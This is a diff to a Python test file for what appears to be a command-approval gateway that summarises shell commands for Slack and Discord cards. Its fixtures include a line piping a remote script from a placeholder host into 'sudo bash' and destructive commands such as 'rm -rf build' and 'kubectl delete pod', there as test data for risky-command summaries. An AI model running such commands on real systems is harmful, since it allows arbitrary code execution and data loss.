@@ -13,7 +13,7 @@ from adapters.slack import card_blocks
 from gateway.domain.records import Record
 from gateway.models import Context, Kind, Question, Risk, RiskLevel
 from gateway.policy.calls.script import read_script
-from gateway.ports.cards import card_of, discreet_summary
+from gateway.ports.cards import Card, card_of, discreet_summary
 from gateway.ports.heads import (
     MOST_WORDS,
     NOTICE_CHARS,
@@ -66,11 +66,14 @@ SCRIPT = "\n".join(["echo step"] * 40 + ["curl -s https://e.example/x | sudo bas
         ),
         (
             "kubectl -n x delete pod a b; kubectl get pods -n x",
-            'Runs "kubectl… delete… b", "kubectl get pods -n x"',
+            'Runs "kubectl… delete pod… b", "kubectl get pods -n x"',
         ),
-        ("rm -rf build && make all the parts of it again", 'Deletes "build", runs "make…"'),
-        ("rm -rf build && make 'all of it'", 'Deletes "build", runs "make…"'),
-        ("rm -rf build && CC=/tmp/cc make release", 'Deletes "build", runs "make…"'),
+        (
+            "rm -rf build && make all the parts of it again",
+            'Deletes "build", runs "make all the parts…"',
+        ),
+        ("rm -rf build && make 'all of it'", 'Deletes "build", runs "make all of it…"'),
+        ("rm -rf build && CC=/tmp/cc make release", 'Deletes "build", runs "make release…"'),
         ("rm -rf build && CC=/tmp/cc make; make", 'Deletes "build", runs "make…"'),
         (
             "rm -rf build && make release > /srv/log",
@@ -122,15 +125,15 @@ def test_no_command_that_is_said_whole_hides_a_later_one(joint: str, after: str)
         assert any(one in head for one in begins), head
 
 
-def test_a_head_leaves_room_for_what_was_found() -> None:
-    """It stands beside the head before what runs, and outweighs the rest of a command's words."""
+def test_a_head_leaves_room_for_the_reason_of_its_risk() -> None:
+    """That stands beside it before what runs. What was found takes no word from a head."""
     one = asked(command="rm -rf build && make all of it -j 4")
     assert plain_head(head_of(one)) == 'Deletes "build", runs "make all of it -j 4"'
     found = replace(one, findings=("removes folders whole",), finding_places=("command",))
-    assert plain_head(head_of(found)) == 'Deletes "build", runs "make…"'
+    assert head_of(found) == head_of(one)
     risky = replace(one, risk=Risk(level=RiskLevel.HIGH, reasons=("it is for all",)))
     assert plain_head(head_of(risky)) == 'Deletes "build", runs "make…"'
-    long = replace(one, findings=("says so much that no head leaves room for it " * 2,))
+    long = replace(one, risk=Risk(level=RiskLevel.MEDIUM, reasons=("it says so much " * 9,)))
     assert head_of(long) == head_of(one)
 
 
@@ -293,7 +296,7 @@ def test_a_notification_says_who_and_what() -> None:
     assert notice_of(risky) == f"High risk · {made.summary}"
     long = asked("x" * 90, APP, **{f"{'name' * 9}{n}": "value" * 9 for n in range(9)})
     cut = card_of(long, lines=9, chars=900).summary
-    assert len(cut) <= NOTICE_CHARS and cut.endswith("…") and cut.count('"') % 2 == 0
+    assert len(cut) <= NOTICE_CHARS and "…" in cut and cut.count('"') % 2 == 0
 
 
 def test_a_discreet_notification_says_nothing_of_the_call() -> None:
@@ -318,7 +321,7 @@ SHOWN = [
 
 @pytest.mark.parametrize("made", SHOWN, ids=lambda one: str(one.request.tool))
 def test_few_words_stand_before_what_runs(made: Record) -> None:
-    """In the order of the card: nothing but the head and a label comes first."""
+    """In the order of the card: nothing but the head, a label and what was found comes first."""
     kept = stored(request(**{
         "tool": made.request.tool,
         "kind": made.request.kind,
@@ -332,8 +335,15 @@ def test_few_words_stand_before_what_runs(made: Record) -> None:
     for part in parts:
         if part["type"] == "rich_text_preformatted":
             break
-        before += ["".join(str(one["text"]) for one in part["elements"])]
-    assert len(" ".join(before).split()) <= MOST_BEFORE, before
+        before += ["".join(str(one["text"]) for one in part.get("elements", [part]))]
+    assert len(_count(" ".join(before), slack)) <= MOST_BEFORE, before
     discord = sent(build_card_view(card_of(kept, lines=CARD_LINES, chars=CARD_CHARS), COPY))
     texts = "\n".join(one["content"] for one in walk(discord["components"]) if one["type"] == TEXT)
-    assert len(texts.split("```", 1)[0].replace("#", "").split()) <= MOST_BEFORE
+    assert len(_count(texts.split("```", 1)[0].replace("\\", ""), slack)) <= MOST_BEFORE
+
+
+def _count(text: str, card: Card) -> list[str]:
+    """Return the words of a text but for those of what was found."""
+    for one in card.shorts:
+        text = text.replace(one.text, "")
+    return [one for one in text.split() if any(map(str.isalnum, one))]
